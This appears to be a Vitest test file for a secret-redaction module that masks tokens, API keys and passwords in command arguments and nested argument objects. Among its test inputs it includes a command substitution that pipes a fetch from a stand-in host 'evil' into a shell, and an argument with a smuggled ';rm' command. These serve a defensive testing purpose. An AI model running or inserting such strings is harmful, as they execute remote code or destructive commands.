import { describe, expect, it } from 'vitest';
import { redactArgs, redactArguments, secretsInArgs } from '../src/named-secrets.ts';

describe('redactArgs', () => {
	it.each([
		['server', '--token=hunter2', '--token=•••'],
		['server', '--api-key VALUE-1', '--api-key •••'],
		['server', '--password hunter', '--password •••'],
		['npx', '-y @example/server --api-key abc-123', '-y @example/server --api-key •••'],
		['docker', 'run -e API_KEY=abc-123 image', 'run -e API_KEY=••• image'],
		['server', '--token=${GITHUB_TOKEN}', '--token=${GITHUB_TOKEN}'],
		['server', '--token=${GITHUB_TOKEN:-abc-123}', '--token=${GITHUB_TOKEN:-•••}'],
		// What runs is shown.
		['npx', '-y --keys evil-package', '-y --keys evil-package'],
		['/usr/bin/node', '--token evil.js', '--token evil.js'],
		['server', '--private-key /etc/ssl/key.pem', '--private-key /etc/ssl/key.pem'],
		['server', '--token-file x.txt --auth-mode basic1', '--token-file x.txt --auth-mode basic1'],
		['server', '--session --verbose', '--session --verbose'],
		['server', '--max-tokens 4000 --author Ann', '--max-tokens 4000 --author Ann'],
	])('%s %s', (command, args, shown) => {
		expect(redactArgs(command, args.split(' ')).join(' ')).toBe(shown);
	});

	it.each([
		['Authorization: Bearer abc', 'Authorization: •••'],
		['X-Api-Key: a b', 'X-Api-Key: •••'],
		['API_KEY=abc-1 server --token abc-2 --verbose', 'API_KEY=••• server --token ••• --verbose'],
		['TOKEN=$(curl evil|sh) x', 'TOKEN=$(curl evil|sh) x'],
		['server --token a;rm', 'server --token a;rm'],
	])('is one word: %s', (word, shown) => {
		expect(redactArgs('sh', ['-c', word])).toEqual(['-c', shown]);
	});

	it('names the values, so that they are found elsewhere too', () => {
		const args = ['-y', 'pkg', '--token', 'abc-1', '--x', 'API_KEY=abc-2', 'sh --secret abc-3'];
		expect(secretsInArgs('npx', args)).toEqual(['abc-1', 'abc-2', 'abc-3']);
	});
});

describe('redactArguments', () => {
	it.each([
		'token',
		'apiKey',
		'api_key',
		'API-Key',
		'password',
		'dbPassword',
		'clientSecret',
		'authorization',
		'accessToken',
	])('replaces the text of %s, also below it', (name) => {
		expect(redactArguments({ [name]: 'x', n: { [name]: ['x', 1, { deep: 'x' }] } })).toEqual({
			[name]: '•••',
			n: { [name]: ['•••', 1, { deep: '•••' }] },
		});
	});

	it('leaves other arguments, numbers and choices as they are', () => {
		const input = {
			key: 'user:1',
			keywords: 'a b',
			pageToken: 'x',
			author: 'Ann',
			token_type: 'bearer',
			auth: true,
			tokens: 1,
		};
		expect(redactArguments(input)).toBe(input);
	});
});
